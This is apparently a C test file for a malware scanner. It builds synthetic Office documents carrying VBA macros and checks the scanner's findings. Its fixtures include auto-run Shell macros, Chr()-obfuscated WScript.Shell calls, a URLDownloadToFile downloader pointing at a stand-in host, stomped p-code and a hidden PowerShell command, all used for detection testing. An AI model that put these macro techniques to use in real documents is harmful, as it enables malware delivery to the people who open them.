/*
 * test_vba.c - Office documents that act when opened: VBA projects (source,
 * classification, stomping), Excel 4.0 macros, DDE, remote templates and
 * external objects, programs in OLE packages.
 *
 * Everything is built here: an MS-OVBA compressor (MS-OVBA 2.4.1.3, greedy
 * longest match), the dir stream (2.3.4.2) and module streams, OLE2 files
 * with libgsf's writer, zip packages (stored entries) for .docm/.xlsm/.docx,
 * BIFF8 Workbook streams (MS-XLS) and WordprocessingML.
 */
#include <gsf/gsf-outfile-msole.h>
#include <gsf/gsf-outfile.h>
#include <gsf/gsf-output-memory.h>
#include <gsf/gsf-output.h>
#include <stdbool.h>
#include <zlib.h>

#include "testutil.h"

static vigil_engine *eng;

static int setup(void **state)
{
	(void)state;
	eng = tu_engine(NULL, NULL);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	vigil_engine_unref(eng);
	return 0;
}

/* ---- bytes ---- */

static void put8(GByteArray *g, uint8_t v)
{
	g_byte_array_append(g, &v, 1);
}

static void put16(GByteArray *g, uint16_t v)
{
	uint8_t b[2] = {(uint8_t)v, (uint8_t)(v >> 8)};

	g_byte_array_append(g, b, 2);
}

static void put32(GByteArray *g, uint32_t v)
{
	uint8_t b[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};

	g_byte_array_append(g, b, 4);
}

static void putstr(GByteArray *g, const char *s)
{
	g_byte_array_append(g, (const uint8_t *)s, (guint)strlen(s));
}

/* ---- MS-OVBA compression (2.4.1.3.7: greedy, longest match in the chunk) ---- */

static unsigned copy_bits(size_t diff)
{
	unsigned b = 4;

	while (b < 12 && ((size_t)1 << b) < diff)
		b++;
	return b;
}

static GByteArray *ovba_compress(const uint8_t *p, size_t n)
{
	GByteArray *out = g_byte_array_new();

	put8(out, 0x01);
	for (size_t cs = 0; cs < n; cs += 4096) {
		size_t ce = cs + 4096 < n ? cs + 4096 : n, i = cs;
		GByteArray *chunk = g_byte_array_new();

		while (i < ce) {
			guint flag_at = chunk->len;
			uint8_t flags = 0;

			put8(chunk, 0);
			for (int b = 0; b < 8 && i < ce; b++) {
				size_t diff = i - cs, best = 0, best_off = 0;
				unsigned bits = copy_bits(diff);
				size_t maxlen = (0xFFFFu >> bits) + 3, maxoff = (size_t)1 << bits;

				for (size_t c = diff > maxoff ? i - maxoff : cs; c < i; c++) {
					size_t l = 0;

					while (l < maxlen && i + l < ce && p[c + l] == p[i + l])
						l++;
					if (l > best) {
						best = l;
						best_off = i - c;
					}
				}
				if (best >= 3) {
					put16(chunk, (uint16_t)(((best_off - 1) << (16 - bits)) |
					                        (best - 3)));
					flags |= (uint8_t)(1u << b);
					i += best;
				} else {
					put8(chunk, p[i++]);
				}
			}
			chunk->data[flag_at] = flags;
		}
		if (chunk->len > 4096) {
			/* incompressible: a raw chunk of exactly 4096 bytes */
			assert_int_equal(ce - cs, 4096);
			put16(out, 0x3FFF);
			g_byte_array_append(out, p + cs, 4096);
		} else {
			put16(out, (uint16_t)(0xB000 | (chunk->len + 2 - 3)));
			g_byte_array_append(out, chunk->data, chunk->len);
		}
		g_byte_array_free(chunk, TRUE);
	}
	return out;
}

/* ---- OLE2 files ---- */

struct entry {
	const char *path; /* "Macros/VBA/Module1" */
	const void *data;
	size_t len;
};

static GsfOutfile *storage_for(GHashTable *dirs, GPtrArray *order, GsfOutfile *root,
                               const char *path)
{
	const char *slash = strrchr(path, '/');
	char *parent;
	GsfOutfile *d;

	if (slash == NULL)
		return root;
	parent = g_strndup(path, (size_t)(slash - path));
	d = g_hash_table_lookup(dirs, parent);
	if (d == NULL) {
		const char *name = strrchr(parent, '/');
		GsfOutfile *up = storage_for(dirs, order, root, parent);

		d = GSF_OUTFILE(gsf_outfile_new_child(up, name ? name + 1 : parent, TRUE));
		assert_non_null(d);
		g_hash_table_insert(dirs, g_strdup(parent), d);
		g_ptr_array_add(order, d);
	}
	g_free(parent);
	return d;
}

static GByteArray *ole_build(const struct entry *e, size_t n)
{
	GsfOutput *sink = gsf_output_memory_new();
	GsfOutfile *root = gsf_outfile_msole_new(sink);
	GHashTable *dirs = g_hash_table_new_full(g_str_hash, g_str_equal, g_free, NULL);
	GPtrArray *order = g_ptr_array_new();
	GByteArray *out = g_byte_array_new();

	assert_non_null(root);
	for (size_t i = 0; i < n; i++) {
		GsfOutfile *dir = storage_for(dirs, order, root, e[i].path);
		const char *base = strrchr(e[i].path, '/');
		GsfOutput *st = gsf_outfile_new_child(dir, base ? base + 1 : e[i].path, FALSE);

		assert_non_null(st);
		if (e[i].len > 0)
			assert_true(gsf_output_write(st, e[i].len, e[i].data));
		assert_true(gsf_output_close(st));
		g_object_unref(st);
	}
	for (guint i = order->len; i > 0; i--) {
		GsfOutput *d = g_ptr_array_index(order, i - 1);

		assert_true(gsf_output_close(d));
		g_object_unref(d);
	}
	assert_true(gsf_output_close(GSF_OUTPUT(root)));
	g_object_unref(root);
	g_byte_array_append(out, gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(sink)),
	                    (guint)gsf_output_size(sink));
	g_object_unref(sink);
	g_hash_table_destroy(dirs);
	g_ptr_array_free(order, TRUE);
	return out;
}

/* ---- VBA projects ---- */

struct module {
	const char *name;
	const char *source;
	const void *pcode; /* the performance cache before the source */
	size_t pcode_len;
	bool document; /* MODULETYPE document/class (0x0022) */
};

static void rec(GByteArray *g, uint16_t id, const void *d, uint32_t n)
{
	put16(g, id);
	put32(g, n);
	if (n > 0)
		g_byte_array_append(g, d, n);
}

static void rec_str(GByteArray *g, uint16_t id, const char *s)
{
	rec(g, id, s, (uint32_t)strlen(s));
}

static void rec_utf16(GByteArray *g, uint16_t id, const char *s)
{
	glong n = 0;
	gunichar2 *w = g_utf8_to_utf16(s, -1, NULL, &n, NULL);

	put16(g, id);
	put32(g, (uint32_t)n * 2);
	for (glong i = 0; i < n; i++)
		put16(g, w[i]);
	g_free(w);
}

static void rec_u32(GByteArray *g, uint16_t id, uint32_t v)
{
	put16(g, id);
	put32(g, 4);
	put32(g, v);
}

static void rec_u16(GByteArray *g, uint16_t id, uint16_t v)
{
	put16(g, id);
	put32(g, 2);
	put16(g, v);
}

/* the dir stream (MS-OVBA 2.3.4.2), uncompressed */
static GByteArray *dir_stream(const struct module *m, size_t n)
{
	GByteArray *g = g_byte_array_new();
	static const char libid[] = "*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#"
	                            "C:\\Windows\\System32\\stdole2.tlb#OLE Automation";

	/* PROJECTINFORMATION */
	rec_u32(g, 0x0001, 1);     /* SYSKIND win32 */
	rec_u32(g, 0x004A, 3);     /* COMPATVERSION */
	rec_u32(g, 0x0002, 0x409); /* LCID */
	rec_u32(g, 0x0014, 0x409); /* LCIDINVOKE */
	rec_u16(g, 0x0003, 1252);  /* CODEPAGE */
	rec_str(g, 0x0004, "VBAProject");
	rec_str(g, 0x0005, "");
	rec_utf16(g, 0x0040, "");
	rec_str(g, 0x0006, "");
	rec_str(g, 0x003D, "");
	rec_u32(g, 0x0007, 0);
	rec_u32(g, 0x0008, 0);
	put16(g, 0x0009); /* PROJECTVERSION: Reserved 4, major, minor */
	put32(g, 4);
	put32(g, 0x5A);
	put16(g, 0x0E);
	rec_str(g, 0x000C, "");
	rec_utf16(g, 0x003C, "");
	/* PROJECTREFERENCES: stdole */
	rec_str(g, 0x0016, "stdole");
	rec_utf16(g, 0x003E, "stdole");
	put16(g, 0x000D);
	put32(g, (uint32_t)(4 + strlen(libid) + 6));
	put32(g, (uint32_t)strlen(libid));
	putstr(g, libid);
	put32(g, 0);
	put16(g, 0);
	/* PROJECTMODULES */
	rec_u16(g, 0x000F, (uint16_t)n);
	rec_u16(g, 0x0013, 0xFFFF);
	for (size_t i = 0; i < n; i++) {
		rec_str(g, 0x0019, m[i].name);
		rec_utf16(g, 0x0047, m[i].name);
		rec_str(g, 0x001A, m[i].name);
		rec_utf16(g, 0x0032, m[i].name);
		rec_str(g, 0x001C, "");
		rec_utf16(g, 0x0048, "");
		rec_u32(g, 0x0031, (uint32_t)m[i].pcode_len);
		rec_u32(g, 0x001E, 0);
		rec_u16(g, 0x002C, 0xFFFF);
		rec(g, m[i].document ? 0x0022 : 0x0021, NULL, 0);
		rec(g, 0x002B, NULL, 0);
	}
	rec(g, 0x0010, NULL, 0);
	return g;
}

/* default p-code: binary opcodes and zeros, no text */
static const uint8_t plain_pcode[] = {0x01, 0x16, 0x03, 0x00, 0x00, 0xF0, 0x00, 0x00, 0x00,
                                      0xD0, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00, 0xFF,
                                      0xFF, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x00,
                                      0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0x00};

/*
 * The streams of a VBA project under prefix ("" for vbaProject.bin,
 * "Macros/" for .doc, "_VBA_PROJECT_CUR/" for .xls), plus extra entries,
 * as one OLE2 file.
 */
static GByteArray *vba_ole(const char *prefix, const struct module *m, size_t n,
                           const struct entry *extra, size_t nextra)
{
	GArray *ents = g_array_new(FALSE, FALSE, sizeof(struct entry));
	GPtrArray *keep = g_ptr_array_new_with_free_func((GDestroyNotify)g_byte_array_unref);
	GPtrArray *names = g_ptr_array_new_with_free_func(g_free);
	static const uint8_t vba_project[] = {0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00};
	GByteArray *dir, *cdir;
	GString *project = g_string_new("ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n");
	GByteArray *out;
	struct entry e;

	for (size_t i = 0; i < n; i++) {
		GByteArray *st = g_byte_array_new(), *src;
		struct module mm = m[i];

		if (mm.pcode == NULL) {
			mm.pcode = plain_pcode;
			mm.pcode_len = sizeof plain_pcode;
		}
		g_byte_array_append(st, mm.pcode, (guint)mm.pcode_len);
		src = ovba_compress((const uint8_t *)mm.source, strlen(mm.source));
		g_byte_array_append(st, src->data, src->len);
		g_byte_array_free(src, TRUE);
		g_ptr_array_add(keep, st);
		g_ptr_array_add(names, g_strdup_printf("%sVBA/%s", prefix, mm.name));
		e = (struct entry){g_ptr_array_index(names, names->len - 1), st->data, st->len};
		g_array_append_val(ents, e);
		g_string_append_printf(project, "%s=%s\r\n", mm.document ? "Document" : "Module",
		                       mm.name);
	}
	/* the dir stream must list the p-code lengths that were used */
	{
		struct module *mm = g_new(struct module, n);

		for (size_t i = 0; i < n; i++) {
			mm[i] = m[i];
			if (mm[i].pcode == NULL)
				mm[i].pcode_len = sizeof plain_pcode;
		}
		dir = dir_stream(mm, n);
		cdir = ovba_compress(dir->data, dir->len);
		g_free(mm);
	}
	g_ptr_array_add(names, g_strdup_printf("%sVBA/dir", prefix));
	e = (struct entry){g_ptr_array_index(names, names->len - 1), cdir->data, cdir->len};
	g_array_append_val(ents, e);
	g_ptr_array_add(names, g_strdup_printf("%sVBA/_VBA_PROJECT", prefix));
	e = (struct entry){g_ptr_array_index(names, names->len - 1), vba_project,
	                   sizeof vba_project};
	g_array_append_val(ents, e);
	g_ptr_array_add(names, g_strdup_printf("%sPROJECT", prefix));
	e = (struct entry){g_ptr_array_index(names, names->len - 1), project->str, project->len};
	g_array_append_val(ents, e);
	for (size_t i = 0; i < nextra; i++)
		g_array_append_val(ents, extra[i]);
	out = ole_build((struct entry *)(void *)ents->data, ents->len);
	g_array_free(ents, TRUE);
	g_ptr_array_free(keep, TRUE);
	g_ptr_array_free(names, TRUE);
	g_string_free(project, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(cdir, TRUE);
	return out;
}

/* ---- zip packages (stored entries) ---- */

struct member {
	const char *name;
	const void *data;
	size_t len;
};

static GByteArray *zip_build(const struct member *m, size_t n)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();

	for (size_t i = 0; i < n; i++) {
		uint32_t crc = (uint32_t)crc32(0L, m[i].data, (uInt)m[i].len);
		uint32_t off = z->len;
		uint16_t nl = (uint16_t)strlen(m[i].name);

		put32(z, 0x04034b50);
		put16(z, 20);
		put16(z, 0);
		put16(z, 0);
		put16(z, 0);
		put16(z, 0x21);
		put32(z, crc);
		put32(z, (uint32_t)m[i].len);
		put32(z, (uint32_t)m[i].len);
		put16(z, nl);
		put16(z, 0);
		putstr(z, m[i].name);
		g_byte_array_append(z, m[i].data, (guint)m[i].len);

		put32(cd, 0x02014b50);
		put16(cd, 20);
		put16(cd, 20);
		put16(cd, 0);
		put16(cd, 0);
		put16(cd, 0);
		put16(cd, 0x21);
		put32(cd, crc);
		put32(cd, (uint32_t)m[i].len);
		put32(cd, (uint32_t)m[i].len);
		put16(cd, nl);
		put16(cd, 0);
		put16(cd, 0);
		put16(cd, 0);
		put16(cd, 0);
		put32(cd, 0);
		put32(cd, off);
		putstr(cd, m[i].name);
	}
	{
		uint32_t cdoff = z->len;

		g_byte_array_append(z, cd->data, cd->len);
		put32(z, 0x06054b50);
		put16(z, 0);
		put16(z, 0);
		put16(z, (uint16_t)n);
		put16(z, (uint16_t)n);
		put32(z, cd->len);
		put32(z, cdoff);
		put16(z, 0);
	}
	g_byte_array_free(cd, TRUE);
	return z;
}

static const char content_types[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Default Extension=\"rels\" "
        "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
        "</Types>";

static const char plain_document[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
        "<w:body><w:p><w:r><w:t>Kính gửi BHXH tỉnh</w:t></w:r></w:p></w:body></w:document>";

/* a .docm: [Content_Types].xml, word/document.xml, word/vbaProject.bin */
static GByteArray *docm(const GByteArray *vba_bin)
{
	struct member m[] = {
	        {"[Content_Types].xml", content_types, strlen(content_types)},
	        {"word/document.xml", plain_document, strlen(plain_document)},
	        {"word/vbaProject.bin", vba_bin->data, vba_bin->len},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

/*
 * VIGIL_TEST_DUMP=DIR writes the generated documents there (fuzz seeds,
 * timing by hand); the tests do not depend on it.
 */
static void dump(const char *name, const GByteArray *g)
{
	const char *dir = getenv("VIGIL_TEST_DUMP");
	char *path;

	if (dir == NULL || *dir == 0)
		return;
	path = g_build_filename(dir, name, NULL);
	assert_true(g_file_set_contents(path, (const char *)g->data, (gssize)g->len, NULL));
	g_free(path);
}

/* ---- looking at results ---- */

static vigil_scan *scan_doc(const GByteArray *g, const char *name)
{
	dump(name, g);
	return tu_scan(eng, g->data, g->len, name);
}

static const vigil_finding *finding_at(const vigil_scan *s, const char *id, const char *path)
{
	for (size_t i = 0; i < vigil_scan_finding_count(s); i++) {
		const vigil_finding *f = vigil_scan_finding(s, i);

		if (strcmp(vigil_finding_id(f), id) == 0 &&
		    strcmp(tu_finding_path(s, (long)i), path) == 0)
			return f;
	}
	tu_dump(s);
	fail_msg("no %s on %s", id, path);
	return NULL;
}

static bool has_finding(const vigil_scan *s, const char *id)
{
	return tu_finding(s, id) >= 0;
}

static bool has_fact(const vigil_scan *s, vigil_fact k, const char *v)
{
	for (size_t i = 0; i < vigil_scan_fact_count(s, k); i++)
		if (strcmp(vigil_scan_fact(s, k, i), v) == 0)
			return true;
	return false;
}

static vigil_severity worst(const vigil_scan *s)
{
	vigil_severity w = VIGIL_SEV_INFO;

	for (size_t i = 0; i < vigil_scan_finding_count(s); i++)
		if (vigil_finding_severity(vigil_scan_finding(s, i)) > w)
			w = vigil_finding_severity(vigil_scan_finding(s, i));
	return w;
}

static void assert_source(const vigil_scan *s, const char *path, const char *src)
{
	const vigil_object *o = tu_object(s, path);
	const uint8_t *d;
	size_t n;

	if (o == NULL) {
		tu_dump(s);
		fail_msg("no object %s", path);
	}
	assert_string_equal(vigil_object_type(o), "text");
	d = vigil_object_data(o, &n);
	assert_int_equal(n, strlen(src));
	assert_memory_equal(d, src, n);
}

/* ---- VBA ---- */

static const char autoopen_shell[] = "Attribute VB_Name = \"Module1\"\r\n"
                                     "Sub AutoOpen()\r\n"
                                     "    Dim r\r\n"
                                     "    r = Shell(\"cmd.exe /c calc.exe\", vbHide)\r\n"
                                     "End Sub\r\n";

static const char this_document[] = "Attribute VB_Name = \"ThisDocument\"\r\n"
                                    "Attribute VB_Base = \"1Normal.ThisDocument\"\r\n"
                                    "Attribute VB_GlobalNameSpace = False\r\n"
                                    "Attribute VB_Creatable = False\r\n"
                                    "Attribute VB_PredeclaredId = True\r\n"
                                    "Attribute VB_Exposed = True\r\n";

/* AutoOpen + Shell in a .docm: the source comes out exactly; high finding */
static void docm_autoopen_shell(void **state)
{
	/* honest p-code: the literal it compiled is in the source too */
	static const uint8_t pcode[] = "\x01\x16\x03\x00\x00\xF0\x13\x00"
	                               "cmd.exe /c calc.exe\x00"
	                               "\x27\x00\x00\x00\xFF\xFF";
	struct module m[] = {
	        {"ThisDocument", this_document, NULL, 0, true},
	        {"Module1", autoopen_shell, pcode, sizeof pcode - 1, false},
	};
	GByteArray *bin = vba_ole("", m, 2, NULL, 0), *doc = docm(bin);
	vigil_scan *s = scan_doc(doc, "report.docm");
	const vigil_finding *f;

	(void)state;
	assert_source(s, "report.docm/word/vbaProject.bin/VBA/Module1.bas", autoopen_shell);
	assert_source(s, "report.docm/word/vbaProject.bin/VBA/ThisDocument.cls", this_document);
	f = finding_at(s, "macro.autoexec_execute", "report.docm/word/vbaProject.bin");
	assert_string_equal(vigil_finding_attack(f), "T1204.002,T1059.005");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f), "AutoOpen in Module1"));
	assert_non_null(strstr(vigil_finding_evidence(f), "Shell"));
	f = finding_at(s, "macro.autoexec", "report.docm/word/vbaProject.bin");
	assert_string_equal(vigil_finding_attack(f), "T1204.002");
	finding_at(s, "macro.execute", "report.docm/word/vbaProject.bin");
	f = finding_at(s, "macro.present", "report.docm/word/vbaProject.bin");
	assert_non_null(strstr(vigil_finding_evidence(f), "Module1"));
	f = finding_at(s, "macro.ioc", "report.docm/word/vbaProject.bin");
	assert_non_null(strstr(vigil_finding_evidence(f), "calc.exe"));
	assert_false(has_finding(s, "macro.stomped"));
	assert_false(has_finding(s, "macro.obfuscated"));
	assert_false(has_finding(s, "macro.downloader"));
	assert_false(has_finding(s, "archive.damaged"));
	assert_int_equal(vigil_scan_verdict(s), VIGIL_MALICIOUS);
	vigil_scan_free(s);
	g_byte_array_free(bin, TRUE);
	g_byte_array_free(doc, TRUE);
}

/* a .doc (Macros/VBA) with Document_Open building "WScript.Shell" from Chr() */
static void doc_obfuscated_chr_chain(void **state)
{
	static const char src[] = "Attribute VB_Name = \"NewMacros\"\r\n"
	                          "Sub Document_Open()\r\n"
	                          "    Dim o, s As String\r\n"
	                          "    ' build the object name\r\n"
	                          "    s = Chr(87) & Chr(83) & Chr(99) & Chr(114) & _\r\n"
	                          "        Chr(105) & Chr(112) & Chr(116) & Chr(46) & _\r\n"
	                          "        Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\n"
	                          "    Set o = CreateObject(s)\r\n"
	                          "    o.Run StrReverse(\"exe.clac\"), 0\r\n"
	                          "End Sub\r\n";
	struct module m[] = {{"NewMacros", src, NULL, 0, false}};
	uint8_t word[1024] = {0xEC, 0xA5, 0xC1, 0x00};
	struct entry extra[] = {{"WordDocument", word, sizeof word}};
	GByteArray *doc = vba_ole("Macros/", m, 1, extra, 1);
	vigil_scan *s = scan_doc(doc, "invoice.doc");
	const vigil_finding *f;

	(void)state;
	assert_source(s, "invoice.doc/Macros/VBA/NewMacros.bas", src);
	f = finding_at(s, "macro.obfuscated", "invoice.doc");
	assert_string_equal(vigil_finding_attack(f), "T1027");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_MEDIUM);
	assert_non_null(strstr(vigil_finding_evidence(f), "Chr() chain in NewMacros"));
	f = finding_at(s, "macro.autoexec_execute", "invoice.doc");
	assert_non_null(strstr(vigil_finding_evidence(f), "Document_Open"));
	vigil_scan_free(s);
	g_byte_array_free(doc, TRUE);
}

/* URLDownloadToFile in an .xls (_VBA_PROJECT_CUR): downloader, URL as a fact */
static void xls_downloader(void **state)
{
	static const char src[] =
	        "Attribute VB_Name = \"Module1\"\r\n"
	        "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias "
	        "\"URLDownloadToFileA\" (ByVal pCaller As Long, ByVal szURL As String, ByVal "
	        "szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long\r\n"
	        "Sub Workbook_Open()\r\n"
	        "    URLDownloadToFile 0, \"http://dl.example-bad.test/tai-lieu/payload.exe\", "
	        "Environ(\"TEMP\") & \"\\svchost.exe\", 0, 0\r\n"
	        "End Sub\r\n";
	struct module m[] = {{"Module1", src, NULL, 0, false}};
	static const uint8_t book[] = {0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00,
	                               0,    0,    0,    0,    0,    0,    0,    0,
	                               0,    0,    0,    0,    0x0A, 0x00, 0x00, 0x00};
	struct entry extra[] = {{"Workbook", book, sizeof book}};
	GByteArray *xls = vba_ole("_VBA_PROJECT_CUR/", m, 1, extra, 1);
	vigil_scan *s = scan_doc(xls, "bang-ke.xls");
	const vigil_finding *f;

	(void)state;
	assert_source(s, "bang-ke.xls/_VBA_PROJECT_CUR/VBA/Module1.bas", src);
	f = finding_at(s, "macro.downloader", "bang-ke.xls");
	assert_string_equal(vigil_finding_attack(f), "T1105");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f), "URLDownloadToFile"));
	assert_non_null(strstr(vigil_finding_evidence(f), "http://dl.example-bad.test/"));
	assert_true(has_fact(s, VIGIL_FACT_URL, "http://dl.example-bad.test/tai-lieu/payload.exe"));
	assert_true(has_fact(s, VIGIL_FACT_DOMAIN, "dl.example-bad.test"));
	f = finding_at(s, "macro.ioc", "bang-ke.xls");
	assert_non_null(strstr(vigil_finding_evidence(f), "svchost.exe"));
	finding_at(s, "macro.autoexec_execute", "bang-ke.xls"); /* Declare ... Lib */
	finding_at(s, "macro.write", "bang-ke.xls");
	vigil_scan_free(s);
	g_byte_array_free(xls, TRUE);
}

/* p-code with code the source does not have: stomped; honest p-code is not */
static void stomped_module(void **state)
{
	static const char src[] = "Attribute VB_Name = \"Module1\"\r\n";
	static const uint8_t pcode[] =
	        "\x01\x16\x03\x00\x00\xF0\x00\x00\x00\xD0\x17\x00\x00\x00"
	        "\x19\x00http://stomp.example.test/a.ps1\x00\x00\x0e\x00\x00\x00"
	        "\x0d\x00WScript.Shell\x00\x00\x00\xFF\xFF\x00\x00";
	struct module m[] = {
	        {"ThisDocument", this_document, NULL, 0, true},
	        {"Module1", src, pcode, sizeof pcode - 1, false},
	};
	GByteArray *bin = vba_ole("", m, 2, NULL, 0), *doc = docm(bin);
	vigil_scan *s = scan_doc(doc, "stomped.docm");
	const vigil_finding *f;

	(void)state;
	assert_source(s, "stomped.docm/word/vbaProject.bin/VBA/Module1.bas", src);
	f = finding_at(s, "macro.stomped", "stomped.docm/word/vbaProject.bin");
	assert_string_equal(vigil_finding_attack(f), "T1564.007");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f), "module Module1"));
	assert_non_null(strstr(vigil_finding_evidence(f), "stomp.example.test"));
	/* the visible source has no code at all */
	assert_false(has_finding(s, "macro.present"));
	vigil_scan_free(s);
	g_byte_array_free(bin, TRUE);
	g_byte_array_free(doc, TRUE);
}

/* the source container broken on purpose: Office still runs the p-code */
static void stomped_by_damaged_source(void **state)
{
	static const uint8_t pcode[] = "\x01\x16\x03\x00\x00\xF0\x00\x00\x00\xD0\x1e\x00"
	                               "powershell -w hidden -enc SQBFAFgA\x00\x00\xFF\xFF";
	static const uint8_t broken[] = {0x01, 0x12, 0x00, 0x41, 0x74, 0x74, 0x72};
	struct module m[] = {{"Module1", "", pcode, sizeof pcode - 1, false}};
	GByteArray *dir = dir_stream(m, 1), *cdir = ovba_compress(dir->data, dir->len);
	GByteArray *mod = g_byte_array_new(), *ole;
	vigil_scan *s;
	const vigil_finding *f;

	(void)state;
	g_byte_array_append(mod, pcode, sizeof pcode - 1);
	g_byte_array_append(mod, broken, sizeof broken);
	{
		struct entry e[] = {{"VBA/dir", cdir->data, cdir->len},
		                    {"VBA/Module1", mod->data, mod->len}};

		ole = ole_build(e, 2);
	}
	s = tu_scan(eng, ole->data, ole->len, "vbaProject.bin");
	f = finding_at(s, "macro.stomped", "vbaProject.bin");
	assert_non_null(strstr(vigil_finding_evidence(f), "powershell -w hidden"));
	assert_non_null(strstr(vigil_finding_evidence(f), "damaged"));
	finding_at(s, "decode.error", "vbaProject.bin");
	vigil_scan_free(s);
	g_byte_array_free(ole, TRUE);
	g_byte_array_free(mod, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(cdir, TRUE);
}

/* a long module: several chunks, one of them stored raw */
static void long_module_roundtrip(void **state)
{
	GString *src = g_string_new("Attribute VB_Name = \"Big\"\r\nSub Tinh()\r\n");
	guint32 r = 12345;
	struct module m[1];
	GByteArray *bin, *doc;
	vigil_scan *s;

	(void)state;
	for (int i = 0; i < 300; i++)
		g_string_append_printf(src, "    Cells(%d, 1).Value = \"So the BHXH %d\"\r\n",
		                       i + 1, i * 7);
	g_string_append(src, "    x = \"");
	for (int i = 0; i < 9000; i++) {
		r = r * 1103515245u + 12345u;
		g_string_append_c(src, (char)('#' + (r >> 16) % 90));
	}
	g_string_append(src, "\"\r\nEnd Sub\r\n");
	m[0] = (struct module){"Big", src->str, NULL, 0, false};
	bin = vba_ole("", m, 1, NULL, 0);
	doc = docm(bin);
	s = scan_doc(doc, "big.docm");
	assert_source(s, "big.docm/word/vbaProject.bin/VBA/Big.bas", src->str);
	assert_false(has_finding(s, "archive.damaged"));
	assert_false(has_finding(s, "macro.stomped"));
	vigil_scan_free(s);
	g_byte_array_free(bin, TRUE);
	g_byte_array_free(doc, TRUE);
	g_string_free(src, TRUE);
}

/* benign: formats cells on opening - autoexec alone stays medium */
static void benign_formatting_macro(void **state)
{
	static const char src[] =
	        "Attribute VB_Name = \"ThisWorkbook\"\r\n"
	        "Option Explicit\r\n"
	        "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As LongPtr)\r\n"
	        "Private Sub Workbook_Open()\r\n"
	        "    Dim d As Object\r\n"
	        "    Set d = CreateObject(\"Scripting.Dictionary\")\r\n"
	        "    With Worksheets(\"Sheet1\").Range(\"A1:D1\")\r\n"
	        "        .Font.Bold = True\r\n"
	        "        .Interior.Color = RGB(200, 220, 255)\r\n"
	        "    End With\r\n"
	        "    Sleep 100\r\n"
	        "    Application.Run \"CapNhatBang\"\r\n"
	        "    MsgBox \"Xin chao\" & Chr(13) & Chr(10) & \"Bang ke thang \" & Month(Date)\r\n"
	        "    Rem Shell \"cmd.exe\" is not called\r\n"
	        "    ' neither is URLDownloadToFile\r\n"
	        "End Sub\r\n";
	static const uint8_t pcode[] = "\x01\x16\x03\x00\x00\xF0\x08\x00Xin chao\x00\x0e\x00"
	                               ""
	                               "Bang ke thang \x00\x00\xFF\xFF";
	struct module m[] = {{"ThisWorkbook", src, pcode, sizeof pcode - 1, true}};
	GByteArray *xls = vba_ole("_VBA_PROJECT_CUR/", m, 1, NULL, 0);
	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "luong.xls");

	(void)state;
	finding_at(s, "macro.autoexec", "luong.xls");
	finding_at(s, "macro.present", "luong.xls");
	assert_false(has_finding(s, "macro.execute"));
	assert_false(has_finding(s, "macro.write"));
	assert_false(has_finding(s, "macro.obfuscated"));
	assert_false(has_finding(s, "macro.stomped"));
	assert_false(has_finding(s, "macro.downloader"));
	assert_true(worst(s) <= VIGIL_SEV_MEDIUM);
	vigil_scan_free(s);
	g_byte_array_free(xls, TRUE);
}

/* a harmless name over a dangerous function: the Alias decides */
static void declare_alias_is_execute(void **state)
{
	static const char src[] =
	        "Attribute VB_Name = \"ThisWorkbook\"\r\n"
	        "Private Declare PtrSafe Function Sleep Lib \"shell32\" Alias "
	        "\"ShellExecuteA\" (ByVal h As LongPtr, ByVal op As String, ByVal "
	        "f As String, ByVal p As String, ByVal d As String, ByVal s As "
	        "Long) As LongPtr\r\n"
	        "Private Sub Workbook_Open()\r\n"
	        "    Sleep 0, \"open\", Range(\"Z99\").Value, \"\", \"\", 0\r\n"
	        "End Sub\r\n";
	struct module m[] = {{"ThisWorkbook", src, NULL, 0, true}};
	GByteArray *xls = vba_ole("_VBA_PROJECT_CUR/", m, 1, NULL, 0);
	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "ke-hoach.xls");
	const vigil_finding *f = finding_at(s, "macro.autoexec_execute", "ke-hoach.xls");

	(void)state;
	assert_non_null(strstr(vigil_finding_evidence(f), "Declare ... Lib in ThisWorkbook"));
	vigil_scan_free(s);
	g_byte_array_free(xls, TRUE);
}

/* damaged dir stream: reported (decode.error), no crash */
static void damaged_dir(void **state)
{
	static const uint8_t bad_dir[] = {0x01, 0x20, 0xB0, 0x00, 0x01, 0x00, 0x04, 0xFF, 0xFF};
	static const char src[] = "Sub AutoOpen()\r\nEnd Sub\r\n";
	GByteArray *csrc = ovba_compress((const uint8_t *)src, strlen(src));
